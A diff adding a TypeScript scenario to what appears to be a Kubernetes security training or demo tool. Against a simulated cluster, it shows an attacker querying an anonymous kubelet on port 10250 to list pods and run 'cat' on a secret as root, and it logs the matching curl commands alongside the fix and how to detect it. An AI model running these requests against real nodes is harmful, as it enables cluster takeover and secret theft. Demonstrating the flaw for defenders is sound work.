@@ -1,0 +1,71 @@
+import { KubeClient } from '../../client/kube-client';
+import { addresses, ports } from '../addresses';
+import { defenceSettings } from '../defences';
+import type { Scenario } from './scenario';
+
+/** Source: cmd/kubelet/app/options/options.go (applyLegacyDefaults), pkg/kubelet/server/server.go. */
+export const anonymousKubelet: Scenario = {
+  id: 'anonymous-kubelet',
+  title: 'a kubelet that asks nobody who they are',
+  story:
+    'A kubelet that is run by flags alone lets anonymous requests in and allows them everything. Whoever reaches port 10250 of the node reads its pods and runs commands in them, root included; no machine in the middle is needed, and the apiserver never hears of it.',
+  setting: {
+    name: 'authentication.anonymous.enabled, authorization.mode',
+    open: 'true, AlwaysAllow (the flags’ defaults)',
+    fixed: 'false, Webhook (the defaults of a --config file)',
+  },
+  notice:
+    'Nothing in the audit log of the apiserver. The kubelet at --v=4 logs the request; a probe of GET https://NODE:10250/pods without credentials from outside shows it.',
+  sources: [
+    'kubernetes.io, "Kubelet authentication/authorization"',
+    'cmd/kubelet/app/options/options.go (applyLegacyDefaults)',
+  ],
+  async play(stage, twin) {
+    const open = defenceSettings('kubelet-open');
+    const cluster = await stage.cluster(twin === 'open' && open !== null ? { kubelet: open.kubelet } : {});
+    const secret = 'S3CRET-of-web';
+    cluster.container({ namespace: 'default', pod: 'web', container: 'web' }).plant(secret);
+    stage.did('admin', 'kubectl run web', 'pod/web runs on node-1 and holds a secret in a file');
+
+    await using nobody = new KubeClient({
+      from: cluster.attackerHost,
+      server: { host: addresses.node1, port: ports.kubelet },
+      trust: { kind: 'verify-nobody' },
+    });
+    const { signal } = stage;
+    const pods = await nobody.request('GET', '/pods', { signal });
+    if (pods.ok) {
+      const names = (pods.json() as { items: { metadata: { name: string } }[] }).items.map(
+        ({ metadata }) => metadata.name,
+      );
+      stage.gained(
+        'attacker',
+        'curl -k https://node-1:10250/pods',
+        names.join(', '),
+        'every pod of the node, with its spec',
+      );
+    } else stage.refused('attacker', 'curl -k https://node-1:10250/pods', answerOf(pods));
+
+    const command = encodeURIComponent('cat /run/secrets/canary');
+    const run = await nobody.request('POST', `/run/default/web/web?cmd=${command}`, { signal });
+    const text = run.body.toString('utf8').trim();
+    if (run.ok && text.includes(secret)) {
+      stage.gained(
+        'attacker',
+        'curl -k -XPOST "https://node-1:10250/run/default/web/web?cmd=cat …"',
+        text,
+        'a command run as root in default/web, and its secret',
+      );
+    } else {
+      stage.refused(
+        'attacker',
+        'curl -k -XPOST "https://node-1:10250/run/default/web/web?cmd=cat …"',
+        answerOf(run),
+      );
+    }
+  },
+};
+
+function answerOf({ status, body, words }: { status: number; body: Buffer; words: string }): string {
+  return status === 0 ? words : `${status} ${body.toString('utf8').trim()}`;
+}
